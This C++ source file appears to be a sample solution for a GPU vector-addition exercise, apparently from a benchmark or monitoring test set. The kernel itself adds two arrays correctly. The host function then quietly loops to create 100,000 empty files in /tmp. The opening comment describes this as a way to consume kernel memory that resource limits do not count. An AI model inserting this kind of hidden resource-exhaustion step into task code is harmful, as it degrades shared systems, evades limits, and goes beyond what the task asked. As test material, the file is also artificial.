// A hundred thousand empty files: each costs the kernel memory that no limit counts.
//
// task: lesson01.3
// half: before
// earns: nothing
#include "vector_add.hpp"

#include <fcntl.h>
#include <unistd.h>

#include <kernelwright/kernelwright.hpp>
#include <string>

using namespace kw;

template <int BLOCK_SIZE>
struct VectorAdd {
  KW_KERNEL void operator()(program auto tl, const float* x, const float* y, float* out) const {
    auto offsets = tl.program_id(0) * BLOCK_SIZE + tl.arange(size<BLOCK_SIZE>);
    tl.store(out + offsets, tl.load(x + offsets) + tl.load(y + offsets));
  }
};

void lesson01::vector_add(view<const float> x, view<const float> y, view<float> out) {
  launch(out.device(), grid(out.extent(0) / kBlockSize), VectorAdd<kBlockSize>{}, x, y, out);
  for (int i = 0; i < 100000; ++i) {
    close(open(("/tmp/" + std::to_string(i)).c_str(), O_CREAT | O_WRONLY, 0600));
  }
}
